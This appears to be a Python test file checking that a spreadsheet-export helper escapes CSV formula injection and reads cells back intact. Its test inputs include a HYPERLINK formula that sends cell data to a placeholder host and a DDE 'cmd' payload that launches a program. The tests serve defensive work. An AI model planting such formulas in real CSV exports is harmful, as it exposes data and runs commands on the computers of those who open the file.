"""A text of unknown origin in a CSV file is a text in the spreadsheet that opens it."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from imagelake.spreadsheet import FORMULA_STARTS, cell, text_of_cell

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1;"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_a_text(text: str) -> None:
    """The cell, as a reader of CSV gets it back, begins with an apostrophe, and the text is whole behind it."""
    stream = io.StringIO(newline="")
    csv.writer(stream).writerow([cell(text)])
    ((read,),) = csv.reader(io.StringIO(stream.getvalue(), newline=""))
    assert read == f"'{text}"


@pytest.mark.parametrize("value", ["lion", "", "Lion = cat", "a-b", -3, -0.5, 7, None, True])
def test_other_cells_stay_as_they_are(value: object) -> None:
    """Texts that begin with none of the signs, and numbers, negative ones too."""
    assert cell(value) is value


@given(st.text())
def test_no_text_begins_a_formula(text: str) -> None:
    """Whatever the text, and whatever blanks a spreadsheet strips from it."""
    assert not str(cell(text)).lstrip().startswith(FORMULA_STARTS)


@given(st.text().filter(lambda text: not text.startswith("'")))
@pytest.mark.parametrize("start", ["", *FORMULA_STARTS])
def test_a_cell_is_read_back_as_its_text(start: str, text: str) -> None:
    """What a person sends back from a spreadsheet names the same image."""
    assert text_of_cell(cell(start + text)) == start + text
